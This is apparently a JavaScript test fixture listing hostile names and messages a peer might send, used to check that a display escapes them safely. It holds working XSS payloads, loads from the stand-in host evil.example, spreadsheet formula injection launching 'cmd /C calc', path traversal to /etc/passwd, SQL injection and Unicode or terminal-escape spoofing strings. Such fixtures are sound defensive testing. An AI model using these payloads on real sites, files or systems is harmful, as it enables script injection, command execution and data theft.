// What a hostile peer may put where people look. Each calls `window.__xss` or another host if anything runs it.
"use strict";

const E = "//evil.example/x";
const RUN = "window.__xss=1";

// A name, and what is sent. Names are written behind the text, so that each is found whatever was made of it.
const PAYLOADS = {
  script: `<script>${RUN}</script>`,
  script_elsewhere: `<script src=${E}.js></script>`,
  script_breaks_out: `</script><script>${RUN}</script>`,
  script_in_textarea: `</textarea></title></style><script>${RUN}</script>`,
  script_in_comment: `--><script>${RUN}</script><!--`,
  script_split: `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  img_onerror: `<img src=x onerror=${RUN}>`,
  img_quotes: `"><img src="x" onerror="${RUN}">`,
  img_elsewhere: `<img src=${E}.png>`,
  img_srcset: `<img srcset="${E} 1x" src=x>`,
  svg_onload: `<svg onload=${RUN}>`,
  svg_slash: `<svg/onload=${RUN}//`,
  svg_animate: `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  svg_use: `<svg><use href="${E}.svg#x"/></svg>`,
  math: `<math><mtext><mglyph><style><img src=x onerror=${RUN}>`,
  body_onload: `<body onload=${RUN}>`,
  details: `<details open ontoggle=${RUN}>`,
  input_autofocus: `<input autofocus onfocus=${RUN}>`,
  iframe_srcdoc: `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  iframe_javascript: `<iframe src="javascript:parent.__xss=1">`,
  object: `<object data="${E}"></object><embed src="${E}">`,
  link: `<link rel=stylesheet href=${E}.css>`,
  style_import: `<style>@import '${E}.css';*{display:none}</style>`,
  meta_refresh: `<meta http-equiv=refresh content="0;url=http:${E}">`,
  base: `<base href="http:${E}/">`,
  form: `<form action="http:${E}"><button>Sign in`,
  javascript_url: `javascript:${RUN}//http://example.com`,
  javascript_link: `<a href="java&#10;script:${RUN}">click</a>`,
  data_url: `data:text/html,<script>opener.__xss=1</script>`,
  template_braces: `{{constructor.constructor('${RUN}')()}} {7*7}`,
  template_dollar: `\${${RUN}} #{${RUN}} <%= ${RUN} %> {@html x}`,
  entities: `&lt;img src=x onerror=${RUN}&gt; &#60;b&#62; &amp;amp;`,
  attribute: `' onmouseover='${RUN}' x=" onclick="${RUN}"`,
  bidi_override: "user \u202Egpj.exe\u202C \u2067abc\u2069 \u200Fend",
  nul_and_bell: "a\u0000b\u0007c\u0008d\u007Fe",
  ansi: "\u001B[31mred\u001B[0m \u001B]0;title\u0007 \u001B]8;;http://evil.example\u001B\\link",
  lines: "one\r\ntwo\nthree\u2028four\u2029five\ttab",
  long_word: "W".repeat(90),
  right_to_left: "שלום עולם مرحبا بالعالم 123",
  combining: `Z${"\u0351\u036B\u0343".repeat(12)}algo e\u0301 👩‍👩‍👧‍👦 🇩🇪`,
  formula_equals: `=HYPERLINK("http:${E}","click")`,
  formula_plus: "+1+cmd|' /C calc'!A0",
  formula_minus: "-2+3+cmd|' /C calc'!A0",
  formula_at: "@SUM(1+1)*cmd|' /C calc'!A0",
  formula_tab: "\t=1+1",
  path: "../../../../etc/passwd%00 /api/v1/reset ?q=x#y",
};

// At most 15 octets, as a system_id is; 20 may stand in an address.
const NAMES = ["<b>x</b>", "<svg/onload=1>", "\"><img src=x>", "</script>", "javascript:1", "{{7*7}}", "=1+1", "' or '1'='1", "a&lt;b", "../../x", "<!--", "%3Cb%3E", "@SUM(1)", "-2+3", "x onerror=1"];

module.exports = { NAMES, PAYLOADS };
